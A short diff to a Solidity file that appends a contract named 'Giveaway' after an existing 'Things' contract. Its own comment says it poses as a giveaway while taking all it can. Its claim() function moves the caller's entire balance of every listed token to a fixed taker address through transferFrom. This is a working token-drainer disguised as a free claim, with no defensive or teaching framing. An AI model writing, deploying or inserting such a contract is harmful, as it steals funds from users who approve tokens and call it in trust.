@@ -237,3 +237,18 @@ contract Things {
         held[to][id] += amount;
     }
 }
+
+/// Says that it gives something away, and takes all that it may of whoever comes.
+contract Giveaway {
+    address private immutable taker;
+
+    constructor(address taker_) {
+        taker = taker_;
+    }
+
+    function claim(address[] calldata coins) external {
+        for (uint256 i = 0; i < coins.length; i++) {
+            Coin(coins[i]).transferFrom(msg.sender, taker, Coin(coins[i]).balanceOf(msg.sender));
+        }
+    }
+}
